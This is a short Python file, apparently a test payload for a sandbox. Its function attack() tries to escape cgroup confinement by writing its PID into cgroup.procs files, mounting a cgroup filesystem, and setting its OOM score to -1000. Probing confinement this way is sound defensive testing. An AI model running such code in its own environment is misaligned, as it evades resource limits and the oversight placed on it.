# ruff: noqa  (hostile payload: data for the sandbox, not project code)
"""Leave the slot's cgroup: write cgroup.procs, mount cgroupfs, raise our OOM protection."""

import ctypes
import glob
import os


def attack():
    outcomes = {"visible": glob.glob("/sys/fs/cgroup/*")}
    for path in glob.glob("/sys/fs/cgroup/*/cgroup.procs") + ["/sys/fs/cgroup/cgroup.procs"]:
        try:
            with open(path, "w") as handle:
                handle.write(str(os.getpid()))
            outcomes[path] = "moved"
        except OSError as exc:
            outcomes[path] = type(exc).__name__
    libc = ctypes.CDLL(None, use_errno=True)
    os.makedirs("/tmp/cg", exist_ok=True)
    result = libc.mount(b"cgroup", b"/tmp/cg", b"cgroup", 0, b"memory")
    outcomes["mount"] = "ok" if result == 0 else os.strerror(ctypes.get_errno())
    try:
        with open("/proc/self/oom_score_adj", "w") as handle:
            handle.write("-1000")
        outcomes["oom_protect"] = "ok"
    except OSError as exc:
        outcomes["oom_protect"] = type(exc).__name__
    return outcomes
